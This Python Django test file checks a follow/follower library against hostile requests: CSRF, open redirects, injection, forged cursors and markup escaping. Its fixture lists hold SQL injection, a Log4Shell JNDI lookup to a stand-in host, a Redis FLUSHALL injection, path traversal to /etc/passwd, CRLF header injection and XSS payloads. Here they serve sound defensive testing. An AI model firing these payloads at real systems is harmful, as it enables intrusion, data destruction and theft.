"""Hostile requests, and the data that they must not reach."""

from __future__ import annotations

from typing import Any
from unittest import mock
from urllib.parse import quote

from django.core.exceptions import BadRequest, PermissionDenied
from django.http import Http404, QueryDict
from django.template.loader import render_to_string
from django.test import Client, override_settings
from django.utils.http import urlsafe_base64_encode
from django.utils.safestring import mark_safe

from sequere.api import follow, get_followers, is_following
from sequere.lists import cursors
from sequere.testing.models import Label, Person
from tests.endpoints import JSON, MEMORY, EndpointCase
from tests.testapp.models import Project

ELSEWHERE = (
    "//evil.example",
    "///evil.example",
    "https:evil.example",
    "https://evil.example/page",
    "http://testserver@evil.example/",
    "http://testserver.evil.example/",
    "\\\\evil.example",
    "/\\evil.example",
    "\t//evil.example",
    " //evil.example",
    "//evil.example\n",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,x",
    "ftp://testserver/",
    "http://[",
    "/" + "x" * 10_000,
    "/" + "é" * 1000,
)

HOSTILE = (
    "'",
    '"',
    "' OR '1'='1",
    "1; DROP TABLE sequere_edge; --",
    '1" OR 1=1 --',
    "1 OR 1=1",
    "1)",
    "%",
    "_",
    "*",
    "1*",
    "${jndi:ldap://evil.example}",
    "{{ 7|add:7 }}",
    "{% debug %}",
    "'} return redis.call('FLUSHALL') --",
    "a:b:c",
    "1:projet",
    "1\r\nSet-Cookie: a=b",
    "1\x00",
    "\x00",
    "\ud800",
    "../../etc/passwd",
    "<script>alert(1)</script>",
    "-1",
    "0",
    "1e3",
    "1_0",
    "NaN",
    "0x1",
    "9" * 400,
    "9" * 10_000,
    "x" * 10_000,
    "é" * 300,
    "\u202e1",
    "",
    " ",
)


def quoted(text: str) -> str:
    return quote(text.encode("utf-8", "surrogatepass"), safe="")


class CsrfTests(EndpointCase):
    def setUp(self) -> None:
        super().setUp()
        self.browser = Client(enforce_csrf_checks=True)
        self.browser.force_login(self.visitor)

    def test_a_token_is_needed(self) -> None:
        url = self.url("follow", self.project)
        for answer in (
            self.post(self.project, client=self.browser),
            self.post(self.project, None, self.browser),
            self.browser.post(url, headers={"HX-Request": "true"}),
            self.browser.delete(url),
        ):
            self.assertEqual(answer.status_code, 403)
        self.assertEqual(self.edges(), 0)

    def test_with_a_token(self) -> None:
        token = "a" * 32
        self.browser.cookies["csrftoken"] = token
        data = {"csrfmiddlewaretoken": token}
        self.post(self.project, None, self.browser, **data)
        self.assertTrue(is_following(self.visitor, self.project))
        url = self.url("follow", self.project)
        answer = self.browser.delete(url, headers={"X-CSRFToken": token})
        self.assertEqual(answer.status_code, 200)
        self.assertFalse(is_following(self.visitor, self.project))


class ReadingTests(EndpointCase):
    def test_reading_changes_nothing(self) -> None:
        follow(self.visitor, self.project)
        other = Project.objects.create(name="other")
        for name in ("follow", "followers", "followings", "friends"):
            for resource in (self.project, other):
                for query in ({}, {"action": "unfollow"}, {"_method": "DELETE"}):
                    url = self.url(name, resource)
                    for method in ("get", "head", "options", "trace"):
                        getattr(self.client, method)(url, query_params=query)
        self.assertTrue(is_following(self.visitor, self.project))
        self.assertEqual(self.edges(), 1)

    def test_the_query_of_an_address_does_not_count(self) -> None:
        follow(self.visitor, self.project)
        url = self.url("follow", self.project)
        answer = self.client.post(f"{url}?action=unfollow&next=/there/")
        self.assertEqual(answer["Location"], "/")
        self.assertTrue(is_following(self.visitor, self.project))


class RedirectTests(EndpointCase):
    def test_elsewhere(self) -> None:
        for url in ELSEWHERE:
            answer = self.post(self.project, None, next=url)
            self.assertEqual((answer.status_code, answer["Location"]), (302, "/"), url)
            answer = self.post(self.project, None, Client(), next=url)
            self.assertEqual(answer["Location"], "/accounts/login/?next=/")
            answer = self.post(self.project, {"HX-Request": "true"}, next=url)
            self.assertContains(answer, 'name="next" value=""')

    def test_lines(self) -> None:
        answer = self.post(self.project, None, next="/a\r\nSet-Cookie: b=c")
        self.assertEqual(answer["Location"], "/a%0D%0ASet-Cookie:%20b=c")
        self.assertNotIn("b", answer.cookies)

    def test_no_way_back_from_https(self) -> None:
        url = self.url("follow", self.project)
        data = {"next": "http://testserver/page/"}
        answer = self.client.post(url, data, secure=True)
        self.assertEqual(answer["Location"], "/")

    def test_a_page_of_the_same_host(self) -> None:
        answer = self.post(self.project, None, next="http://testserver/page/")
        self.assertEqual(answer["Location"], "http://testserver/page/")


class InjectionTests(EndpointCase):
    """No parameter causes a server error, or reaches another object."""

    def setUp(self) -> None:
        super().setUp()
        self.person = Person.objects.create(name="follower")
        follow(self.person, self.project)

    def harmless(
        self, method: str, path: str, query: Any = "", body: Any = None
    ) -> Any:
        url = f"{path}?{query}" if query else path
        answer = getattr(self.client, method)(url, body, headers=JSON)
        self.assertLess(answer.status_code, 500, url[:200])
        self.assertNotIn("Set-Cookie: a", str(answer.headers))
        return answer

    def test_object_ids(self) -> None:
        for text in HOSTILE:
            for identifier in ("projet", "testing.label", "testing.place", "prefixed"):
                path = f"{identifier}/{quoted(text)}"
                for name in ("followers", "followings", "friends"):
                    answer = self.harmless("get", f"/follows/{name}/{path}")
                    self.assertIn(answer.status_code, (400, 404), path[:200])
                answer = self.harmless("post", f"/follows/follow/{path}")
                self.assertIn(answer.status_code, (400, 404), path[:200])
        self.assertEqual(self.edges(), 0)

    def test_identifiers(self) -> None:
        for text in HOSTILE:
            path = f"{quoted(text)}/{self.project.pk}"
            self.assertEqual(
                self.harmless("get", f"/follows/followers/{path}").status_code, 404
            )
            self.assertEqual(
                self.harmless("post", f"/follows/follow/{path}").status_code, 404
            )

    def test_query_strings(self) -> None:
        path = self.url("followers", self.project)
        for text in HOSTILE:
            for name in ("size", "kind", "after"):
                self.harmless("get", path, f"{name}={quoted(text)}")
            answer = self.harmless("get", path, f"{quoted(text)}=1")
            self.assertEqual(answer.json()["count"], 1)

    def test_forms(self) -> None:
        path = self.url("follow", self.project)
        for text in HOSTILE:
            for name in ("action", "next", "object_id", "identifier", "viewer"):
                body = {name: text.encode("utf-8", "replace").decode()}
                self.harmless("post", path, body=body)
                self.client.post(path, body)
        self.client.post(path, b"\xff=\xff&action=%ff", "multipart/form-data")

    def test_cursors_that_were_made_up(self) -> None:
        path = self.url("followers", self.project)
        digest = cursors._digest(get_followers(self.project)._scope)
        value = f'["{digest}",0,"a","1",false]'
        for text in (value, "[" * 100_000, "{}", "[]", "1", '"abcde"', "\x00" * 64, ""):
            for sealed in (text, "x" * cursors.TAG_SIZE + text):
                cursor = urlsafe_base64_encode(sealed.encode())
                answer = self.harmless("get", path, f"after={cursor}")
                self.assertEqual(answer.status_code, 400 if cursor else 200)

    def test_one_object_in_a_request(self) -> None:
        others = [Project.objects.create(name=f"p{n}") for n in range(5)]
        keys = ",".join(str(other.pk) for other in others)
        for path in (
            keys,
            keys.replace(",", "/"),
            f"{others[0].pk}&{others[1].pk}",
            "*",
        ):
            self.harmless("post", f"/follows/follow/projet/{path}")
        body = QueryDict(mutable=True)
        for name in ("object_id", "target", "pk", "id", "action"):
            body.setlist(name, [str(other.pk) for other in others])
        body.setlist("action", ["follow"] * 5)
        url = self.url("follow", others[0])
        content = "application/x-www-form-urlencoded"
        self.client.post(url, body.urlencode(), content, headers=JSON)
        self.assertEqual(self.edges(), 1)

    def test_nobody_follows_for_another(self) -> None:
        answer = self.harmless(
            "post",
            self.url("follow", self.project),
            f"viewer={self.person.pk}",
            {"viewer": f"testing.person:{self.person.pk}", "user": "1"},
        )
        self.assertEqual(answer.json()["followings_count"], 1)
        self.assertEqual(self.edges(), 1)


class InjectionInMemoryTests(InjectionTests):
    backend = MEMORY


class MarkupTests(EndpointCase):
    """A name that looks like markup is shown as text."""

    HOSTILE = "\"'><img src=x onerror=alert(1)>&{{ x }}"

    def assert_text(self, page: str) -> None:
        self.assertNotIn("<img", page)
        self.assertNotIn("\"'>", page)
        self.assertNotIn("onerror=alert(1)>", page)

    def test_names_and_ids(self) -> None:
        label = self.label(self.HOSTILE)
        for user in (self.visitor, None):
            page = self.render("{% follow_button user label %}", user=user, label=label)
            self.assertIn("&lt;img", page)
            self.assert_text(page)
        answer = self.post(label, {"HX-Request": "true"}, next="/" + self.HOSTILE)
        self.assert_text(answer.content.decode())

    def test_names_that_were_declared_safe(self) -> None:
        self.options(Label, get_label=lambda *arguments: mark_safe(self.HOSTILE))
        page = self.render(
            "{% follow_button user label %}", label=self.label("a"), user=self.visitor
        )
        self.assert_text(page)

    def test_reasons(self) -> None:
        safe = mark_safe(self.HOSTILE)
        for error, status in (
            (PermissionDenied(self.HOSTILE), 403),
            (PermissionDenied(safe), 403),
            (BadRequest(safe), 400),
            (Http404(safe), 404),
        ):
            self.options(Project, can_follow=mock.Mock(side_effect=error))
            for headers in (None, {"HX-Request": "true"}):
                answer = self.post(self.project, headers, next="/" + self.HOSTILE)
                self.assertEqual(answer.status_code, status)
                self.assertContains(answer, "&lt;img", status_code=status)
                self.assert_text(answer.content.decode())
            answer = self.post(self.project)
            self.assertEqual(answer.json(), {"detail": self.HOSTILE})

    def test_addresses_of_pages(self) -> None:
        page = render_to_string("sequere/refused.html", {"next": self.HOSTILE})
        self.assert_text(page)

    def test_json_is_no_page(self) -> None:
        follow(self.label(self.HOSTILE), self.project)
        answer = self.client.get(self.url("followers", self.project))
        self.assertEqual(answer["Content-Type"], "application/json")
        self.assertEqual(answer.json()["items"][0]["label"], self.HOSTILE)


@override_settings(DEBUG=True)
class DebugTests(EndpointCase):
    def test_refusals_are_the_same(self) -> None:
        answer = self.client.get("/follows/followers/projet/x")
        self.assertEqual(answer.json(), {"detail": "This link is not valid."})
